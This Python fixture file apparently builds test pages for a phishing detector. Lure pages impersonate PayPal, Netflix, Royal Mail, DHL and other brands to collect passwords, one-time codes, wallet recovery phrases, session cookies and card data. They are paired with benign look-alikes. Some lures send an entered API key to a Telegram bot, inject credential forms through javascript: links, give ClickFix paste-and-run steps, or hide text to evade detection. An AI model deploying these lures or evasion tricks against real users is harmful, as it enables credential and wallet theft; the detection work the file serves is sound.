"""Pages that would harvest secrets, each with a legitimate page that looks much like it."""

from layouts import centred, plain, with_nav

FILLER = "The river was built over in 1820, and people of the town remember how it began. " * 110
GUIDE = "A library lends books, maps and records; ask at the desk which shelf holds what you are looking for. " * 60

# Ways to hide text from those who read the page, but not from a check that only reads its tags.
HIDDEN_PROSE = [
    ("canvas", "<canvas>", "</canvas>"),
    ("video", "<video>", "</video>"),
    ("audio", "<audio>", "</audio>"),
    ("dialog", "<dialog>", "</dialog>"),
    ("object", "<object data=a.svg>", "</object>"),
    ("selector", "<style>p.x{display:none}</style><p class=x>", "</p>"),
    ("comment", "<div style='display:/**/none'>", "</div>"),
    ("closed-tag", "<div hidden/>", "</div>"),
    ("encoded-class", "<style>.x{display:none}</style><div class='&#120;'>", "</div>"),
]


def harvest():
    user = "<input name=user placeholder='User name'>"
    yield "twin-01-user-name-first", centred("Login | Tangerine", f"<img alt='Tangerine logo' src=l.svg><form action=040148.php>{user}<button>Continue</button></form>")
    yield "twin-02-code-alone", centred(
        "Vérification - Netflix", "<form action=otp.php><p>Un code à 6 chiffres a été envoyé.</p><input name=n1 placeholder='Entrez le code'><button>Vérifier</button></form>", "fr")
    yield "twin-03-delivery-address", centred(
        "Royal Mail: schedule your redelivery",
        "<form action=step2.php><input placeholder='Full name'><input placeholder='Address line 1'><input placeholder='City'>"
        "<input placeholder=Postcode><input placeholder='Phone number'><button>Next</button></form>")
    yield "twin-04-phrase-in-textarea", centred(
        "Restore wallet", "<p>Enter your 12 or 24 word recovery phrase, separated by single spaces.</p><form><textarea name=pkey></textarea><button>Restore</button></form>")
    yield "twin-05-twelve-short-fields", centred(
        "Import your wallet", "<p>Type your recovery phrase.</p><form action=w.php>" + "".join(f"<input placeholder='{n}.'>" for n in range(1, 13)) + "</form>")
    yield "twin-06-text-field-for-password", centred(
        "PayPal", "<p>Your account has been temporarily blocked.</p><form><input name=a placeholder=Email><label>Password <input name=b></label></form>")
    yield "twin-07-session-cookie", centred(
        "Instagram verification", "<p>Paste your cookies to confirm that the account is yours.</p><form><input name=c placeholder='sessionid cookie'></form>")
    yield "twin-08-nameless-loan", centred(
        "Loan approved", "<form><input name=mail placeholder=Email><input type=password placeholder='Email password'><input placeholder='ATM PIN'>"
        "<input placeholder=CVV><button>Release the money</button></form>")
    yield "twin-09-hold-windows-key", centred(
        "Working on updates", "<p>Check security, 95% complete.</p><ol><li>Hold the Windows key and press R.</li><li>Hold Ctrl and press V.</li><li>Press Enter to finish the update.</li></ol>")
    yield "twin-10-clone-in-title", centred("PayPal login clone (tutorial)", "<form><input name=u><input type=password name=p></form>")
    yield "twin-11-hidden-prose", centred("Netflix", f"<div style='display:none'>{FILLER}</div><form action=l.php><input name=u><input type=password name=p></form>")
    yield "twin-12-prose-behind-a-class", centred(
        "Sign in", f"<style>.more{{position:absolute;left:-9999px}}</style><div class=more>{FILLER}</div><p>Update your billing: your DHL account has been limited.</p>"
        "<form><input name=u><input type=password name=p></form>")
    yield "twin-13-collector", centred("Welcome", "<form action=victim.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-14-numbers-for-names", centred("Sign in", "<form action=next.aspx method=post><input name=1><input type=password name=2></form>")
    yield "twin-15-much-pressure", centred(
        "Notice", "<p>Verification required: your account has been blocked after suspicious activity. Verify your identity within 24 hours.</p>"
        "<form><input name=u><input type=password name=p></form>")
    yield "twin-16-key-to-a-bot", centred(
        "Key tester", "<label>OpenAI API key <input name=k></label><script>fetch('https://api.telegram.org/bot000000:INVALID/sendMessage?text='+k.value)</script>")
    yield "twin-17-password-named-key", centred(
        "Outlook", "<form><input name=user placeholder=Email><input type=password name=api_key placeholder='Enter it here'></form>")
    yield "twin-18-steps-of-a-kit", {
        "index.html": centred("DHL Express", "<h1>Track your parcel</h1><form action=code.html><input name=user placeholder='User name'><input type=password name=p><button>Sign in</button></form>"),
        "code.html": centred("Confirm", "<form action=done.php><input name=otp placeholder='SMS code'></form>"),
    }
    yield "twin-19-garbled-title", centred("Sign 1n", "<form action=next.php method=post><input name=offname><input type=password name=offsecret></form>")
    yield "twin-20-bank-verification", centred(
        "Bank Verification | Royal Mail", "<h1>Payment complete</h1><p>Tracking your parcel, please wait.</p><form action=track.php><input type=hidden name=n></form>")
    yield "twin-21-account-was-limited", centred(
        "Message received", "<p>As a precaution, we have limited your card.</p><form action=login.php><button>Continue</button></form><footer>© 2019 Wells Fargo Online</footer>")
    yield "twin-22-hotel-network", centred(
        "The Grand Hotel - Reset", "<h1>Forgot room number or password?</h1><form action=reset.php method=post><input name=last_name placeholder='Last name'>"
        "<input type=email name=email><input type=password name=password placeholder='Last known password'><button>Reset &amp; Connect</button></form>")
    yield "twin-23-steps-of-a-server", centred(
        "Checking your browser…", "<h1>Just a quick check</h1><label><input type=checkbox> I'm not a robot</label><h2>Complete these verification steps</h2>"
        "<p>To better prove you are not a robot, please complete these steps:</p><div id=steps></div><p>Complete then click Verify.</p><button>Verify</button>")
    yield "twin-24-code-under-its-own-name", centred(
        "Enter code - myGov", "<p>We sent it to your mobile number.</p><form action=sm1.php><label for=otpanswer>Code</label><input id=otpanswer name=otpanswer type=tel></form>")
    yield "twin-25-you-get", centred(
        "Sign in", "<link rel=stylesheet href='https://www.verizon.com/a.css'><h2>Register</h2><p>Register with Verizon, you get the convenience of managing your account online.</p>"
        "<form action=login.php><input name=user><input type=password name=p></form>")
    yield "twin-26-crossed-names", centred(
        "Update your account information", "<form action=next.php method=post><input name=xName placeholder='Full name'><input name=xAddress1 placeholder='Address line 1'>"
        "<input name=xCity placeholder=City><input name=xZip placeholder=Postcode><input name=xPhone placeholder='Phone number'><button>Continue</button></form>")
    yield "twin-27-words-of-a-server", centred(
        "", "<form action=login.php method=post><label for=m></label><input id=m type=email name=m placeholder=''><label for=p></label>"
        "<input id=p type=password name=p placeholder=''><button></button></form><a href='#'></a><a href='#'></a>")
    yield "twin-28-initials-of-a-school", centred(
        "Elm Lake Public Schools", "<a href='https://zone.elpsd.example/apps/resetPassword'>Forgot it?</a><form action=in><input name=a><input type=password name=p><button>Log in</button></form>")
    yield "twin-29-recovery-email", centred(
        "Encrypted file", "<form action=open.php method=post><input name=user placeholder='Recovery email'><input name=ph placeholder='Phone number'><button>View file</button></form>")
    yield "twin-30-name-before-it-asks", {
        "index.html": centred("Royal Mail", "<h1>Your parcel is waiting</h1><p>Follow the steps on the next page.</p><a href=next.html>Next</a>"),
        "next.html": centred("Payment", "<form action=next2.php><input placeholder='Card number'><input placeholder=CVV><button>Continue</button></form>"),
    }
    yield "twin-31-program-that-sends", centred("Sign in", "<form action='go/send_log2.php' method=post><input name=u><input type=password name=p></form>")
    yield "twin-32-encrypted-file", centred("Encrypted file", "<form action=next><input name=user placeholder=Email><input type=password name=pass placeholder=Password><button>Open</button></form>")
    pictures = "".join(f"<img src=w{n}.png>" for n in range(5))
    yield "twin-33-words-in-pictures", centred("Enter", f"{pictures}<form action=next.php method=post><input name=a>{pictures}<input type=password name=b><button>LOG IN</button></form>")
    yield "twin-34-words-in-pictures-and-hidden-prose", centred(
        "Enter", f"<section hidden>{FILLER}</section>{pictures}<form action=next.php method=post><input name=a>{pictures}<input type=password name=b></form>")
    yield "twin-35-name-after-hidden-prose", centred(
        "Enter", f"<section hidden>{FILLER}</section><p>Netflix</p><form action=login.php method=post><input name=a><input type=password name=b></form>")
    yield "twin-36-dashboard-in-title", centred(
        "PayPal dashboard", "<form id=f><input name=email placeholder=Email><input type=password name=password placeholder=Password><button>Continue</button></form>"
        "<script>f.onsubmit=()=>fetch(atob(f.dataset.to),{method:'POST',body:new FormData(f)})</script>")
    yield "twin-37-common-collector-and-name", centred(
        "Welcome", "<p>Continue to your Netflix account.</p><form action=post.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-38-common-collector-and-pressure", centred(
        "Welcome", "<p>Your account has been suspended.</p><form action=1.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-39-steps-in-order", centred(
        "One more step", "<ol><li>Hold the Windows key and press R.</li><li>Press Ctrl and the V key.</li><li>Press Enter.</li></ol>")
    for number, (kind, before, after) in enumerate(HIDDEN_PROSE, 40):
        yield f"twin-{number}-prose-in-{kind}", centred(
            "Sign in", f"{before}{FILLER}{after}<p>Royal Mail: your account has been limited.</p>"
            "<form action=login.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-50-area-that-runs", centred(
        "Photos", "<img src=map.png usemap='#m'><map name=m><area shape=default href=\"javascript:document.body.innerHTML='<h1>Sign in to your PayPal account</h1>"
        "<form action=https://collect.invalid><input name=u><input type=password></form>'\"></map>")
    yield "twin-51-link-of-a-drawing-that-runs", centred(
        "Photos", "<svg><a xlink:href=\"javascript:document.body.innerHTML='<h1>Sign in to your PayPal account</h1>"
        "<form action=https://collect.invalid><input name=u><input type=password></form>'\"><text>Open</text></a></svg>")
    yield "twin-52-references-in-attributes", centred(
        "Sign in", "<meta property='og:site&#95;name' content='DHL Express'><form action=login.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-53-references-in-file-names", centred(
        "Sign in", "<p>Welcome back</p><img src='net&#102;lix.png'><form action=login.php method=post><input name=u><input type=password name=p></form>")


def honest():
    yield "login_demo-71-posts-to-login", centred(
        "Student portal", "<form action=login.php method=post><label>User name <input name=username></label><label>Password <input type=password name=password></label></form>"
        "<p><a href=register.php>Register</a></p>")
    yield "login_demo-72-contact-us", with_nav(
        "Acorn – Sign in", "<p>Contact us using our Twitter account or our Facebook page.</p><form action=signin.php method=post><input name=email><input type=password name=password></form>")
    yield "login_demo-73-template-preview", "<!-- saved from url=(0040)https://preview.colorlib.com/login-form/ -->\n" + centred(
        "Login V5", "<form><input name=username><input type=password name=pass></form>")
    yield "login_demo-74-pictures-of-a-travel-site", with_nav(
        "Wander", "<img src='https://cdn.wander.test/a.jpg' alt='A beach'><form onsubmit='return false'><input name=email><input type=password name=password></form>")
    yield "login_demo-75-por-favor", centred("Iniciar sesión", "<p>Por favor, ingresa tus datos.</p><form action=login.php><input name=usuario><input type=password name=password1></form>", "es")
    yield "login_demo-76-shown-by-a-button", centred("Show the password", "<input type=password id=p><img src=eye.png onclick='p.type=p.type==\"text\"?\"password\":\"text\"'>")
    yield "token-01-openai", centred("OpenAI prompt tester", "<label>OpenAI API token <input type=password name=token placeholder='sk-…'></label><textarea placeholder=Prompt></textarea>"
                                     "<script>fetch('https://api.openai.com/v1/responses',{headers:{Authorization:'Bearer '+token.value}})</script>")
    yield "token-02-github", centred("GitHub stars", "<label>GitHub token <input name=t></label><button>Load</button><script>fetch('https://api.github.com/user/starred')</script>")
    yield "token-03-telegram-bot", centred("Telegram bot sender", "<label>Telegram bot token <input name=t></label><input placeholder='Chat ID'>"
                                           "<script>fetch(`https://api.telegram.org/bot${t.value}/sendMessage`)</script>")
    yield "token-04-discord-webhook", centred("Discord message builder", "<label>Webhook URL <input name=w placeholder='https://discord.com/api/webhooks/…'></label>"
                                              "<script>fetch(w.value,{method:'POST'})</script>")
    yield "crypto-31-word-list", centred("BIP39 word list", "<p>Look up a word of the list. Everything happens in this page, offline.</p><input name=q placeholder='Search a word'>")
    yield "crypto-32-keys-of-a-server", centred("TLS key checker", "<p>Compares a certificate with its private key, in this page.</p><textarea name=key placeholder='Private key (PEM)'></textarea>")
    yield "crypto-33-twelve-fields", centred("Crossword", "<p>Fill in the row.</p>" + "".join(f"<input name=c{n} maxlength=12>" for n in range(12)))
    yield "docs-71-install", plain("Install Fern", "<h1>Install</h1><p>Open PowerShell, paste this and press Enter:</p><pre>iwr https://fern.test/install.ps1 | iex</pre>"
                                   "<p>On a Mac, open Terminal and run:</p><pre>curl -fsSL https://fern.test/install.sh | sh</pre><button onclick='navigator.clipboard.writeText(cmd)'>Copy</button>")
    yield "docs-72-keyboard-shortcuts", plain("Keyboard shortcuts of Windows", "<table><tr><td>Windows + R</td><td>Opens the Run dialog</td></tr><tr><td>Windows + X</td><td>Quick menu</td></tr>"
                                              "<tr><td>Alt + Tab</td><td>Switches windows</td></tr></table><p>" + GUIDE[:2400] + "</p>")
    yield "form-71-newsletter-beside-networks", with_nav(
        "Gym", "<h2>Instagram</h2><img alt='Instagram' src=i.jpg><form action=index.php><input name=firstname><input name=lastname><input name=address><input name=city><input type=email name=email></form>")
    yield "form-72-tabs", with_nav("Guide", f"<style>.tab{{display:none}}</style><p>{GUIDE[:3000]}</p><div class=tab>{GUIDE[:3000]}</div><form action=search><input name=q></form>")
    yield "captcha-71-own-checkbox", centred(
        "A captcha of our own", "<h1>Demo</h1><label><input type=checkbox> I'm not a robot</label><p>Complete the puzzle, then press Verify.</p><canvas></canvas><button>Verify</button>")
    yield "form-73-identity-was-checked", with_nav(
        "Fern Bank – Your application", "<h1>Your details have been verified</h1><p>We will write to you within two weeks.</p><form action=search.php><input name=q placeholder=Search></form>")
    yield "form-74-verification-of-a-bank", with_nav(
        "Parcels", "<h1>How to pay a customs fee</h1><p>Royal Mail may ask for a bank verification when you pay online. It never asks for it by text message.</p>"
        "<form action=search.php><input name=q placeholder=Search></form>")
    yield "login_demo-77-sign-up-and-connect", with_nav(
        "Trailmates", "<h1>Create an account and connect with hikers near you</h1><form onsubmit='return false'><input name=email placeholder=Email>"
        "<input type=password name=password placeholder=Password><button>Create account</button></form>")
    yield "login_demo-78-notes-of-a-pad", centred("Notepad", "<form action=save.php><input name=notpad placeholder=Title><textarea name=text></textarea></form>")
    yield "game-71-user-of-a-service", centred("Github profiles", "<input type=text placeholder='Search a GitHub user'><div id=main></div>")
    yield "payment-71-names-of-a-payment-service", with_nav(
        "Seed shop", "<form action=pay.php method=post><input name=x_card_num placeholder='Card number'><input name=x_exp_date placeholder='Expiration date'>"
        "<input name=x_first_name placeholder='First name'><input name=x_email placeholder=Email></form>")
    yield "login_demo-79-empty-title", centred(
        "", "<form action=login.php method=post><label for=u>User name</label><input id=u><label for=p>Password</label><input id=p type=password><button>Sign in</button></form>")
    yield "login_demo-80-initials-of-its-own-site", with_nav(
        "Fern Garden Club", "<link rel=stylesheet href='https://static.fgclub.example/a.css'><form action=login onsubmit='return false'><input name=u placeholder=Member><input type=password name=p></form>")
    yield "settings-71-recovery-email", with_nav(
        "Settings", "<form action=save.php method=post><input name=email placeholder=Email><input name=recovery placeholder='Recovery email'><button>Save</button></form>")
    yield "login_demo-81-beside-a-named-page", {
        "index.html": with_nav("Spotify", f"<h1>My playlists of the year</h1><p>{GUIDE[:600]}</p>"),
        "login.html": centred("Sign in", "<form onsubmit='return false'><input name=u placeholder='User name'><input type=password name=p placeholder=Password></form>"),
    }
    yield "dashboard-71-pictures-of-companies", with_nav(
        "Cards", f"<h2>Team</h2><p>{GUIDE[:2400]}</p><img src=netflix.svg alt=Netflix><form><input name=a placeholder=Company><input name=b placeholder=City>"
        "<input name=c placeholder=Street><input name=d placeholder=Country><input type=password name=e placeholder='New password'></form>")
    yield "docs-71-locked-document", centred("Protected document", "<p>This page is encrypted.</p><form onsubmit='return false'><input type=password placeholder=Password><button>Open</button></form>")
    yield "login_demo-82-icons", centred(
        "Fern", "<img src=1.svg><img src=2.svg><img src=3.svg><img src=4.svg><form action=login.php method=post><input name=u placeholder='User name'>"
        "<input type=password name=p placeholder=Password><button>Login</button></form>")
    yield "login_demo-83-strength-of-a-password", centred("", "<h1>How strong is it?</h1><form><input type=password id=p><p id=out></p></form><script>p.oninput=()=>{out.textContent=p.value.length}</script>")
    signs = [("ru", "Войти"), ("uk", "Увійти"), ("el", "Σύνδεση"), ("vi", "Đăng nhập"), ("ru", "Авторизация"), ("el", "Είσοδος")]
    for number, (language, words) in enumerate(signs, 84):
        yield f"login_demo-{number}-in-its-own-letters", centred(
            words, f"<h1>{words}</h1><form action=auth.php method=post><input name=user><input type=password name=password><button>{words}</button></form>", language)
    yield "login_demo-90-purchase-orders", centred(
        "Purchase order system", "<h1>Purchase orders</h1><form onsubmit='return false'><input name=user placeholder='User name'>"
        "<input type=password name=password placeholder=Password><button>Log in</button></form>")
    yield "login_demo-91-download-file", centred(
        "Download file – Acorn Box", "<form onsubmit='return false'><input type=email name=user placeholder=Email><input type=password name=password placeholder=Password><button>Log in</button></form>")
    yield "form-75-new-password", centred(
        "Change password", "<form action=save_password.php method=post><label>Old password <input type=password name=old></label>"
        "<label>New password <input type=password name=new></label><button>Save</button></form>")
    yield "payment-72-billing", centred(
        "Seed shop", "<form action=billing.php method=post><label>Card number <input name=number></label><label>Expiry <input name=expiry></label><label>CVV <input name=cvv></label></form>")
    yield "payment-73-verified-by-its-service", centred(
        "PayPal", "<h1>Payment verification</h1><p>What a shop does after the checkout.</p><form action=verify.php method=post><input type=hidden name=order><button>Verify</button></form>")
    yield "form-76-fields-in-a-dialog", centred(
        "Members", f"<img src=plus.svg><div class=modal aria-hidden=true><h5>New member</h5><form><label>Name <input name=name></label>"
        "<label>Password <input type=password name=password></label><label>City <input name=city></label></form></div>")
    yield "login_demo-92-words-of-a-script", centred(
        "", "<form><label for=u data-word=user></label><input id=u><label for=p data-word=password></label><input id=p type=password><button data-word=enter></button></form>"
        "<script src=words.js></script><script>document.title=words.title;for(const e of document.querySelectorAll('[data-word]'))e.textContent=words[e.dataset.word]</script>")
    yield "docs-73-shortcuts-in-short", plain(
        "Keyboard shortcuts of Windows", "<table><tr><td>Windows + R</td><td>Run dialog</td></tr><tr><td>Ctrl + C</td><td>Copy</td></tr>"
        "<tr><td>Ctrl + V</td><td>Paste</td></tr><tr><td>Windows + X</td><td>Quick menu</td></tr></table>")
    yield "docs-74-task-manager", plain(
        "Frozen windows", "<p>Press Ctrl+Shift+Esc, or Windows + R and type taskmgr.</p><p>Select the window and press Enter.</p>")
    yield "docs-75-how-to-fix-a-window", plain(
        "Frozen windows", "<h1>How to fix it</h1><p>Open the Run dialog with Windows + R and type taskmgr, then press Enter. Or press Ctrl + Shift + Esc.</p>")
    for number, action in enumerate(["1.php", "db_insert.php", "send.php", "next.php", "step2.php", "post.php", "done.php", "cc.php"], 93):
        yield f"login_demo-{number}-posts-to-{action.split('.')[0].replace('_', '-')}", with_nav(
            "Chess club", f"<h1>Members</h1><form action={action} method=post><label>User name <input name=user></label>"
            "<label>Password <input type=password name=password></label><button>Log in</button></form>")
    yield "token-05-dashboard-of-a-service", centred(
        "GitHub dashboard", "<label>GitHub token <input type=password name=token placeholder='GitHub token'></label><button>Load</button>"
        "<script>fetch('https://api.github.com/user')</script>")
    yield "login_demo-101-own-dashboard", with_nav(
        "Acorn dashboard", "<form onsubmit='return false'><input name=email placeholder=Email><input type=password name=password placeholder=Password></form>")
    for number, (kind, before, after) in enumerate(HIDDEN_PROSE, 77):
        yield f"form-{number}-text-in-{kind}", with_nav(
            "Guide", f"{before}{GUIDE[:3000]}{after}<p>{GUIDE[:2000]}</p><form action=login.php method=post><input name=u placeholder='User name'>"
            "<input type=password name=p placeholder=Password></form>")
    yield "form-86-hidden-drafts", with_nav(
        "Parish news", f"<p hidden>Draft<p>{GUIDE[:3000]}<ul><li hidden>Draft<li>{GUIDE[:2000]}</ul><form action=search><input name=q></form>")
    yield "gallery-71-map-of-a-picture", with_nav(
        "Rooms", "<img src=plan.png usemap='#plan' alt='Plan of the house'><map name=plan><area href='javascript:show(1)' alt=Kitchen>"
        "<area href='kitchen.html' alt=Hall></map><svg><a xlink:href='hall.html'><text>Hall</text></a></svg>")
    yield "login_demo-102-references-in-attributes", with_nav(
        "Acorn", "<meta property='og:site&#95;name' content='Acorn'><img src='aco&#114;n.png'><form action=login.php method=post>"
        "<input name='us&#101;r'><input type=password name='pass&#119;ord'></form>")
    yield "login_demo-103-fields-that-begin-with-x", with_nav(
        "Diagrams", "<form action=save.php method=post><input name=xAxis placeholder='X axis'><input name=xLabel placeholder=Label><input name=xName placeholder=Name></form>")
